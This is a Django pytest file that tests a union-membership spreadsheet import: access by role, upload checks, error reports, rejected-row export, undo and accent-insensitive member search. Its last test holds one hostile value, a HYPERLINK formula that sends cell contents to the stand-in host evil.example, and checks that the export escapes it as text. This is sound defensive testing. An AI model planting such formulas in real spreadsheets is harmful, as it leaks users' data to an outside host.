"""The import pages: who may use them, the upload through the task queue, the report, the
rejected rows, undo; and the officer's path of issue 15 with the test client (download the
members' template, upload it with one bad row, read the report, fix the row, import, find the
member by a search without diacritics)."""

import datetime
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from imports.models import ImportBatch, ImportStatus
from tests.factories import RoleGrantFactory, UserFactory
from tests.imports.workbooks import sheet_rows
from unions.enums import Role
from unions.models import Membership


def _client_for(client, unit, role):
    person = UserFactory()
    RoleGrantFactory(user=person, unit=unit, role=role)
    client.force_login(person)
    return person


def _upload(content: bytes, name="doan-vien.xlsx"):
    return SimpleUploadedFile(name, content)


@pytest.mark.parametrize(
    ("role", "status"), [(Role.OFFICER, 200), (Role.VIEWER, 403), (Role.EDITOR, 403)]
)
def test_who_may_open_the_import_page(tree, client, role, status):
    _client_for(client, tree.district_a1, role)
    assert client.get(reverse("imports:start")).status_code == status


def test_a_batch_is_seen_only_by_the_person_who_ran_it(
    tree, client, django_capture_on_commit_callbacks
):
    _client_for(client, tree.district_a1, Role.OFFICER)
    template = client.get(reverse("imports:template", args=["members"])).content
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("imports:start"),
            {"kind": "members", "mode": "check", "file": _upload(template)},
        )
    url = response.url
    assert client.get(url).status_code == 200
    _client_for(client, tree.district_a1, Role.OFFICER)
    assert client.get(url).status_code == 404


def test_a_file_that_is_not_xlsx_is_refused_on_the_form(tree, client):
    _client_for(client, tree.district_a1, Role.OFFICER)
    response = client.post(
        reverse("imports:start"),
        {"kind": "members", "mode": "import", "file": _upload(b"a;b\n", "doan-vien.csv")},
    )
    assert response.status_code == 200 and "file" in response.context["form"].errors
    assert not ImportBatch.objects.exists()


def test_officer_path_of_the_issue(tree, client, django_capture_on_commit_callbacks):
    _client_for(client, tree.district_a1, Role.OFFICER)
    template = client.get(reverse("imports:template", args=["members"]))
    assert template["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(BytesIO(template.content))
    sheet = book.worksheets[0]
    sheet.delete_rows(2, sheet.max_row)
    sheet.append(
        [
            "Phạm Thị Ngọc Ánh",
            "02/09/1992",
            "Nữ",
            "",
            "0905111333",
            "",
            "CSX",
            "QT-ANH-01",
            "01/03/2015",
            "Kế toán",
        ]
    )
    sheet.append(
        ["Lê Văn Đức", "30/02/1988", "Nam", "", "0905111444", "", "CSY", "QT-DUC-01", "", ""]
    )
    output = BytesIO()
    book.save(output)

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("imports:start"),
            {"kind": "members", "mode": "import", "file": _upload(output.getvalue())},
        )
    report = client.get(response.url)
    body = report.content.decode()
    batch = report.context["batch"]
    assert batch.status == ImportStatus.DONE and not batch.recorded
    assert batch.errors == [
        {"row": 3, "column": "Ngày sinh", "message": batch.errors[0]["message"]}
    ]
    assert "Ngày sinh" in body and batch.errors[0]["message"] in body
    assert Membership.objects.count() == 0

    sheet.cell(row=3, column=2).value = "28/02/1988"
    output = BytesIO()
    book.save(output)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("imports:start"),
            {"kind": "members", "mode": "import", "file": _upload(output.getvalue())},
        )
    batch = client.get(response.url).context["batch"]
    assert (batch.recorded, batch.created, batch.errors) == (True, 2, [])

    found = client.get(reverse("unions:member_list"), {"q": "pham thi ngoc anh"})
    assert [m.card_number for m in found.context["page"].object_list] == ["QT-ANH-01"]
    assert Membership.objects.get(card_number="QT-DUC-01").user.date_of_birth == datetime.date(
        1988, 2, 28
    )


def test_valid_only_gives_back_the_rejected_rows_and_undo(
    tree, client, django_capture_on_commit_callbacks
):
    _client_for(client, tree.district_a1, Role.OFFICER)
    template = client.get(reverse("imports:template", args=["members"])).content
    book = load_workbook(BytesIO(template))
    sheet = book.worksheets[0]
    sheet.append(["Lê Văn Đức", "", "Nam", "", "0905111444", "", "KHONG-CO", "QT-DUC-01", "", ""])
    output = BytesIO()
    book.save(output)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("imports:start"),
            {"kind": "members", "mode": "valid_only", "file": _upload(output.getvalue())},
        )
    batch = ImportBatch.objects.get()
    assert (batch.created, batch.rejected) == (1, 1)
    rejected = client.get(reverse("imports:batch_rejected", args=[batch.pk]))
    rows = sheet_rows(b"".join(rejected.streaming_content))
    assert rows[1][0] == "Lê Văn Đức" and "KHONG-CO" in rows[1][-1]
    client.post(reverse("imports:batch_undo", args=[batch.pk]))
    assert Membership.objects.count() == 0
    batch.refresh_from_db()
    assert batch.undone_at is not None
    assert response.status_code == 302


def test_a_queued_batch_reports_its_progress(tree, monkeypatch):
    from django.core.files.base import ContentFile

    from imports import services
    from tests.imports.workbooks import filled_template

    monkeypatch.setattr(services, "PROGRESS_EVERY", 1)
    rows = [
        ["Người Số " + str(n), "", "", "", f"09050000{n:02d}", "", "CSX", f"QT-{n}", "", ""]
        for n in range(3)
    ]
    batch = ImportBatch.objects.create(
        kind="members", file_name="a.xlsx", status=ImportStatus.QUEUED, dry_run=True
    )
    batch.file.save("a.xlsx", ContentFile(filled_template("members", rows).getvalue()))

    done = services.batch_run(batch.pk)
    assert (done.status, done.rows, done.checked_rows, done.created) == ("done", 3, 3, 3)
    assert Membership.objects.count() == 0


def test_rejected_rows_come_back_with_formulas_written_as_text(
    tree, client, django_capture_on_commit_callbacks
):
    _client_for(client, tree.district_a1, Role.OFFICER)
    template = client.get(reverse("imports:template", args=["members"])).content
    book = load_workbook(BytesIO(template))
    sheet = book.worksheets[0]
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
    sheet.append(["", "", "Nam", "", "0905111444", "", "KHONG-CO", "QT-DUC-01", "", ""])
    # Typed as text (a formula cell would be read as its value): how a hostile name arrives.
    name = sheet.cell(row=sheet.max_row, column=1)
    name.value, name.data_type = hostile, "s"
    output = BytesIO()
    book.save(output)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("imports:start"),
            {"kind": "members", "mode": "valid_only", "file": _upload(output.getvalue())},
        )
    batch = ImportBatch.objects.get()
    assert (batch.created, batch.rejected) == (1, 1)
    rejected = client.get(reverse("imports:batch_rejected", args=[batch.pk]))
    back = load_workbook(BytesIO(b"".join(rejected.streaming_content))).worksheets[0]
    assert back["A2"].data_type == "s"
    assert back["A2"].value == "'" + hostile
